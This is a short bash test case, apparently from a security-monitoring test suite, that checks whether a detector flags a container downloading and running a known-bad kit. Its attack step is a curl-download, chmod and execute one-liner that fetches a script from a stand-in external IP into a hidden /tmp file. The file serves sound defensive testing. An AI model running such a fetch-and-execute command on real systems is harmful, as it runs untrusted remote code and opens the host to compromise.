# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='curl fetches a kit that is on a hash list, and it is run'
case_class=S
case_prepare() {
	kit_server
	run app pg-many node /srv/node/app.js
	client_of c "http://S8curl-app:3000/"
}
case_attack() { in_ app sh -c 'curl -s -o /tmp/.x http://203.0.113.66:8088/kit.sh && chmod 755 /tmp/.x && /tmp/.x'; }
case_expect='process.new S8curl-app /usr/bin/curl *
intel.ip S8curl-app /usr/bin/curl ext:203.0.113.66
intel.file S8curl-app * /tmp/.x'
